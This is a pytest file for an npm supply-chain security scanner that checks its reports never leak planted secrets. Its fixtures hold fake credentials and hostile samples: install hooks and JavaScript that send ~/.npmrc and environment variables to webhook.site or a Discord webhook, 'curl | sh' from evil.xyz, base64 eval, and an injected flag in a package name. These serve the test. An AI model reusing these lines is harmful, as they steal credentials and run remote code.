import datetime as dt
import json
from collections.abc import Mapping
from pathlib import Path

import pytest
import trees

from picketline.core import formats
from picketline.core.formats import github, ml_context
from picketline.core.report import Report
from picketline.packages import collect, registry, sbom, scan, verdicts
from picketline.packages.corpus import Corpus
from picketline.packages.scan import Request, Scanned

_FEW = 8
_CORPUS = Corpus.of(popular=("react",), today=dt.date(2026, 11, 20))
_BODY = "Q7w8E9r1T2y3U4i5O6p7A8s9D1f2G3h4J5k6"
_HEX = "f3a91c04b7d25e68f3a91c04b7d25e68"
_KEY = ["MIIEpAIBAAKCAQEA7Zq" + _BODY + "x1y2z3w4"] * 6
_PEM = "-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----\n".format(
    "\n".join(_KEY)
)
_SECRETS = (
    f"ghp_{_BODY}",
    f"npm_{_BODY}",
    f"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ7{_BODY}.{_BODY}",
    "correct-Horse7battery",
    "kZ9vB2nM4xC6lQ8s",
    _HEX,
    *_KEY[:1],
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzExampleKey",
    "AKIAIOSFODNN7EXAMPLF",
)
_GHP, _NPM, _JWT, _PASSWORD, _PLAIN, _, _, _PAIRED, _ACCOUNT = _SECRETS
_BASIC = "dXNlcjpjb3JyZWN0SG9yc2U3"
_ALL = (*_SECRETS, _BODY, _BASIC)
_HOOKS = {
    "preinstall": f"curl -u me:{_PASSWORD} -d @$HOME/.npmrc https://webhook.site/x?token={_PLAIN}",
    "install": f"PASSWORD={_PASSWORD} node dist/setup.js --api-key {_PLAIN} {_GHP}",
    "postinstall": (
        f"curl -H 'Authorization: Basic {_BASIC}' -H 'X-Api-Key: {_PLAIN}' https://evil.xyz/a | sh;"
        f" mysql -p{_PASSWORD}; echo //r.example/:_authToken={_NPM} > ~/.npmrc"
    ),
}
_SCRIPT = f"""\
const https = require('https'), os = require('os'), fs = require('fs');
const cp = require('child_process');
const t = '{_GHP}', n = "{_NPM}", j = `{_JWT}`, password = '{_PASSWORD}';
const config = {{ apiKey: '{_PLAIN}', 'client_secret': "{_HEX}", auth: 'Bearer {_HEX}' }};
const key = `{_PEM}`, flat = {json.dumps(_PEM)};
{"a" * 20}; let token='{_GHP}';/*{_GHP * 2}*/eval(atob('YWxlcnQoMSk7YWxlcnQoMik=' + x));
cp.exec('curl -u me:{_PASSWORD} https://webhook.site/a -H "Authorization: Bearer {_HEX}"');
cp.execSync(`git clone https://x-access-token:{_PLAIN}@github.com/a/b`);
new S3('{_ACCOUNT}', '{_PAIRED}'); fetch('https://webhook.site/' + process.env.NPM_TOKEN);
cp.execSync(`sshpass -p {_PASSWORD} ssh a`);
fetch('https://discord.com/api/webhooks/1234567890/{_BODY}{_BODY}', {{ body: process.env }});
const all = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
https.request({{ host: 'webhook.site', headers: {{ 'X-Api-Key': '{_PLAIN}' }} }}).end(all + t);
"""
_LOCK = {
    "name": "app",
    "version": "1.0.0",
    "lockfileVersion": 3,
    "packages": {
        "": {"name": "app", "version": "1.0.0", "dependencies": {"padder": "^1.0.0"}},
        "node_modules/padder": {
            "version": "1.0.3",
            "resolved": f"https://me:{_PASSWORD}@{registry.HOST}/padder/-/padder-1.0.3.tgz?key={_PLAIN}",
        },
        "node_modules/other": {
            "version": "1.0.0",
            "resolved": f"git+http://{_GHP}@github.com/a/other.git#main",
        },
        f"node_modules/{_NPM}": {
            "version": "1.0.0",
            "resolved": f"http://{_PLAIN}@h.example/a.tgz",
        },
    },
}
_MANIFEST = {
    "name": "app",
    "version": "1.0.0",
    "license": f"token={_PLAIN}",
    "scripts": {"prepare": f"curl -u me:{_PASSWORD} https://webhook.site/x | sh"},
    "dependencies": {
        "padder": "^1.0.0",
        "other": f"git+https://me:{_PASSWORD}@github.com/a/other.git",
        "far": f"http://files.example/far.tgz?token={_PLAIN}",
        "short": f"github:me:{_PASSWORD}@a/short",
        f"{_GHP} --evil": "1.0.0",
    },
}
_PADDER = {
    "name": "padder",
    "version": "1.0.3",
    "scripts": _HOOKS,
    "bin": {"npm": f"{_GHP}.js"},
    "main": f"../../{_GHP}.js",
    "repository": f"https://{_GHP}@github.com/a/b",
    "license": f"no licence {_GHP}",
}
_FILES: Mapping[str, str | bytes] = {
    "package.json": json.dumps(_MANIFEST),
    "package-lock.json": json.dumps(_LOCK),
    ".npmrc": (
        f"//r.example/:_authToken={_NPM}\n//r.example/:_password={_BASIC}\n_auth={_BASIC}\n"
        f"registry=http://me:{_PASSWORD}@r.example/?token={_PLAIN}\nstrict-ssl=false\n"
        f"@acme:registry=http://{_PLAIN}@acme.example/\nignore-scripts=false\n"
    ),
    "pnpm-workspace.yaml": f"trustPolicyExclude:\n  - '{_GHP}'\ndangerouslyAllowAllBuilds: true\n",
    ".env": f"PASSWORD={_PASSWORD}\nNPM_TOKEN={_NPM}\n",
    "id_rsa": _PEM,
    "node_modules/padder/package.json": json.dumps(_PADDER),
    "node_modules/padder/dist/setup.js": _SCRIPT,
    "node_modules/padder/index.js": _SCRIPT.replace("\n", " "),
    f"node_modules/padder/{_GHP}.js": _SCRIPT,
    "node_modules/padder/run.sh": f"#!/bin/sh\n{_HOOKS['preinstall']}\n{_HOOKS['postinstall']}\n",
    "node_modules/padder/.npmrc": f"//r.example/:_authToken={_NPM}\n",
    "node_modules/padder/key.pem": _PEM,
    f"node_modules/{_NPM}/package.json": json.dumps(
        {"name": _NPM, "version": "1.0.0", "scripts": {"install": "node dist/setup.js"}}
    ),
    f"node_modules/{_NPM}/dist/setup.js": _SCRIPT,
    f"node_modules/{_GHP}/package.json": "{",
}


@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> Scanned:
    """A project in which secrets stand wherever one can."""
    root = trees.lay(tmp_path_factory.mktemp("planted") / "app", _FILES)
    return scan.scan(root, _CORPUS, Request(options=collect.Options(jobs=1)))


@pytest.fixture(scope="module")
def made(scanned: Scanned) -> Report:
    """The report of it."""
    return scan.report([scanned.part], _CORPUS)


def _left(text: str) -> list[str]:
    """The parts of secrets that a text holds."""
    parts = {one[at : at + _FEW] for one in _ALL for at in range(len(one) - _FEW + 1)}
    return sorted(text[max(0, at - 60) : at + 60] for part in parts if (at := text.find(part)) >= 0)


def test_the_project_is_found_out(made: Report) -> None:
    """Rules of all kinds have something to say, so that the rest is worth asking."""
    rules = {finding.rule for part in made.parts for finding in part.findings}
    assert rules >= {"L2-POST-001", "L2-CRED-001", "L2-MANI-002"}
    assert len(rules) > 8  # of some thirty
    assert any("***" in finding.matched for part in made.parts for finding in part.findings)


@pytest.mark.parametrize("shape", ["json", "sarif", "table", "github", "html"])
def test_no_format_holds_a_secret(made: Report, shape: str) -> None:
    """Nor a part of one."""
    assert not _left(formats.render(made, shape).decode())


def test_no_view_holds_a_secret(scanned: Scanned, made: Report) -> None:
    """What a person, a model, a bill's reader and a pull request are shown."""
    views = (
        verdicts.render(made, width=100, colour=False, ascii=False),
        ml_context.render(made, budget=1 << 20),
        sbom.cyclonedx(scanned.project, made),
        github.summary(made),
    )
    assert [_left(view.decode()) for view in views] == [[], [], [], []]


def test_another_secret_is_another_statement(tmp_path: Path) -> None:
    """And the same one the same, though neither is told."""
    prints = []
    for name, secret in (("a", _GHP), ("b", _GHP), ("c", _GHP.replace("7", "8"))):
        files = dict(_FILES)
        files["node_modules/padder/package.json"] = json.dumps(_PADDER).replace(_GHP, secret)
        lock = json.loads(json.dumps(_LOCK))
        root = trees.lay(tmp_path / name, files | {"package-lock.json": json.dumps(lock)})
        request = Request(rules=("L2-MANI-002",), options=collect.Options(jobs=1))
        part = scan.scan(root, _CORPUS, request).part
        prints.append({finding.fingerprint for finding in part.findings})
    assert prints[0] == prints[1] != prints[2]
